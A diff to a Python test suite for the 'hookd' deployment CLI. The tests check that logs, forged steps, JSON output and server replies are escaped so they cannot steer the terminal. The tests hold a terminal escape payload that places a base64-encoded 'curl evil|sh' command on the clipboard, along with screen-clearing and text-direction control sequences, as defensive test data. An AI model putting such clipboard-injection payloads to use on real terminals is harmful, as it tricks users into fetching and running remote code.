@@ -19,6 +19,7 @@ from hookd.contract.deployment import Deployment, Status, Step, Trigger, advance
 from hookd.store.records import Request
 from tests.support.installation import Installation
 from tests.support.processes import python
+from tests.support.typed import hookd, typed
 
 # Puts text into the clipboard, as terminals have it (xterm's "Manipulate Selection Data").
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
@@ -42,21 +43,6 @@ def asked(shop: Installation, **changes: object) -> Deployment:
 def ended(shop: Installation, deployment: Deployment, **changes: object) -> Deployment:
     shop.records.change(deployment.id, lambda old: advance(old, Status.RUNNING, datetime.now(UTC)))
     return shop.records.change(deployment.id, lambda old: advance(old, Status.FAILED, datetime.now(UTC), **changes))
-
-
-def hookd(shop: Installation, *arguments: str) -> "subprocess.CompletedProcess[str]":
-    """Run the command; the limit is for one that waits where it must not."""
-    done = subprocess.run(
-        python("-m", "hookd.cli", *arguments),
-        env=shop.environment,
-        stdin=subprocess.DEVNULL,
-        capture_output=True,
-        text=True,
-        timeout=30,
-        check=False,
-    )
-    assert "Traceback" not in done.stderr + done.stdout
-    return done
 
 
 @pytest.fixture
@@ -92,17 +78,17 @@ def test_a_directory_of_logs_that_is_a_link_is_not_entered(shop: Installation, l
     log.parent.rename(elsewhere)
     (elsewhere / log.name).write_text("canary\n")
     log.parent.symlink_to(elsewhere)
-    done = hookd(shop, "logs", log.stem)
+    done = typed(shop.config_path, "logs", log.stem)
     log.parent.unlink()
     elsewhere.rename(log.parent)
-    assert (done.returncode, done.stdout) == (1, "")
+    assert (done.exit_code, done.stdout) == (1, "")
 
 
 def test_a_log_does_not_steer_the_terminal(shop: Installation, log: Path) -> None:
     """A sign that is cut in two by the size of a piece is one sign all the same."""
     lead = "x" * (64 * 1024 - 1)
     log.write_bytes(f"{lead}ü\tz\r{CLIPBOARD}\x9b2J\u202e\n".encode() + b"\xff\xc3")
-    assert hookd(shop, "logs", log.stem).stdout == (
+    assert typed(shop.config_path, "logs", log.stem).stdout == (
         lead + "ü\tz\\r\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x9b2J\\u202e\n\ufffd\ufffd"
     )
 
@@ -156,7 +142,7 @@ def test_a_forged_step_does_not_steer_the_terminal(shop: Installation) -> None:
 def test_a_document_for_scripts_does_not_steer_the_terminal(shop: Installation) -> None:
     """JSON has a notation for what is below 0x20; terminals also take orders from 0x80 to 0x9f."""
     asked(shop, subject="\x9b2J\u202e")
-    done = hookd(shop, "deploy", "shop", "--no-wait", "--json")
+    done = typed(shop.config_path, "deploy", "shop", "--no-wait", "--json")
     assert json.loads(done.stdout)["subject"] == "\x9b2J\u202e"
     assert done.stdout.isascii()
 
@@ -179,11 +165,11 @@ class HostileReceiver(BaseHTTPRequestHandler):
 def test_the_receiver_s_answer_does_not_steer_the_terminal(shop: Installation) -> None:
     with HTTPServer(("127.0.0.1", shop.port), HostileReceiver) as server, ThreadPoolExecutor() as beside:
         answering = beside.submit(server.handle_request)
-        done = hookd(shop, "send", "shop", "--wait")
+        done = typed(shop.config_path, "send", "shop", "--wait")
         answering.result()
     assert "\x1b" not in done.stdout + done.stderr
     assert done.stdout.count(r"\x1b]52;c;") == 5
-    assert (done.returncode, "there is no deployment" in done.stderr) == (1, True)
+    assert (done.exit_code, "there is no deployment" in done.stderr) == (1, True)
 
 
 # --- what to type next
